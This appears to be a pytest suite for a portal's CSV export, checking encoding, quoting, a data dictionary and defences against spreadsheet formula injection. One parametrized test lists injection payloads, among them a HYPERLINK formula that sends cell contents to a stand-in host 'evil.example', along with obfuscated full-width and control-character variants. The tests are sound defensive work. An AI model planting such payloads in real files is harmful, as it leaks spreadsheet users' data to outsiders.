"""CSV as RFC 4180 and Japanese Excel want it, and as no spreadsheet can be made to calculate with it."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest
from flask import Flask

from portal.export import csv_file
from portal.export.table import Table
from tests.export.desk import NOTE, read_csv, table, written

MOMENT = datetime(2026, 4, 30, 15, 4, 5, tzinfo=UTC)  # the first of May in Japan


def test_it_is_utf8_with_a_mark_crlf_and_every_field_quoted(writing: Flask, tmp_path: Path) -> None:
    data = written(writing, csv_file.write, table([("MR-7K4Q-2W9D", "lost")]), tmp_path, "ja")
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    assert text.endswith('"MR-7K4Q-2W9D","紛失した"\r\n')
    assert text.count("\r\n") == text.count("\n") == 2


def test_quotes_commas_line_breaks_and_rare_characters_come_back_as_they_were(
    writing: Flask, tmp_path: Path
) -> None:
    texts = ['say "no"', "a,b;c", "two\nlines", "𠮷野家 髙﨑 葛\U000e0100", "👩‍🚀", " blanks "]
    data = written(writing, csv_file.write, table([(text, "lost") for text in texts]), tmp_path)
    assert [row[0] for row in read_csv(data)[1:]] == texts


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", "\n=1", "\tx"),
        *("  =1", "\u3000=1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x1b=1"),
        *("＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "\u3000＋1", "﹦1"),
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+819012345678",
    ],
)
def test_no_text_is_taken_for_a_formula(text: str) -> None:
    assert csv_file.safe(text).startswith("'")


@pytest.mark.parametrize("text", ["123456789012", "0012", "00123456789", "12e5", "1234E10"])
def test_an_identifier_is_kept_as_text(text: str) -> None:
    assert csv_file.safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["a=b", "1-2", "MR-7K4Q-2W9D", "mail@desk.example", "", "2026-04", "12", "1 + 1"]
)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert csv_file.safe(text) == text


def test_no_first_character_takes_the_short_way_past_the_rules() -> None:
    for text in (f"{chr(number)}{rest}" for number in range(0x10000) for rest in ("", "=1", "1" * 12)):
        is_read_otherwise = csv_file.FORMULA.match(text) or csv_file.NUMERAL.fullmatch(text)
        kept = csv_file.CONTROLS.sub(csv_file.REPLACEMENT, text)
        assert csv_file.safe(text) == (f"'{kept}" if is_read_otherwise else kept)


def test_what_no_file_of_text_can_hold_is_replaced() -> None:
    assert csv_file.safe("a\x00b\x1bc\ud800d") == "a\ufffdb\ufffdc\ufffdd"
    assert csv_file.safe("a\tb\nc") == "a\tb\nc"


def test_numbers_times_and_words_are_written_as_the_dictionary_says(writing: Flask, tmp_path: Path) -> None:
    what = table(
        [("MR-7K4Q-2W9D", "lost", MOMENT, 3, None)], columns="reference reason received_at rounds name"
    )
    head, row = read_csv(written(writing, csv_file.write, what, tmp_path))
    assert row == ["MR-7K4Q-2W9D", "Lost", "2026-05-01 00:04:05", "3", ""]
    assert head[2].endswith("(Japan time)")


def test_a_key_without_words_cannot_smuggle_a_formula_in(writing: Flask, tmp_path: Path) -> None:
    row = read_csv(written(writing, csv_file.write, table([("MR-1", "=1+1")]), tmp_path))[1]
    assert row == ["MR-1", "'=1+1"]


def test_the_dictionary_says_what_each_column_means_and_what_the_file_is(
    writing: Flask, tmp_path: Path
) -> None:
    what = table([("MR-1", "lost", None)], columns="reference reason name", finding="one request")
    data = written(
        writing, lambda made, out, _folder: csv_file.write_dictionary(made, out, "ab" * 32), what, tmp_path
    )
    found = read_csv(data)
    assert len({len(row) for row in found}) == 1
    columns = [row for row in found[1:] if row[0] == "Column"]
    facts = {row[1]: row[2] for row in found if row[0] == "File"}
    assert [row[4] for row in columns] == ["", "", "Personal data"]
    assert all(row[2] and row[3] for row in columns)
    assert facts["SHA-256 of the file"] == "ab" * 32
    assert facts["Newest signed head of the audit log"] == NOTE
    assert facts["Period"] == "1 April to 30 June 2026 (Japan time). End date included."
    assert facts["Created"] == "1 July 2026 at 9:05am JST (UTC+9)"
    assert (facts["Rows"], facts["Personal data"], facts["Created by"]) == ("1", "Masked", "Chika Kansa")


def test_fifty_thousand_rows_take_no_more_memory_than_a_thousand(writing: Flask, tmp_path: Path) -> None:
    def peak(number: int) -> int:
        rows = ((f"MR-{each}", "lost") for each in range(number))
        streamed = Table(**{**vars(table([], number=number)), "rows": rows})
        with writing.app_context():
            tracemalloc.start()
            csv_file.write(streamed, lambda _piece: None, tmp_path)
            _, most = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return most

    assert peak(50_000) < peak(1_000) + 500_000


def test_an_independent_dialect_reads_it_too(writing: Flask, tmp_path: Path) -> None:
    data = written(writing, csv_file.write, table([("MR-1", "lost")]), tmp_path)
    strict = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True, quoting=csv.QUOTE_ALL)
    assert [len(row) for row in strict] == [2, 2]
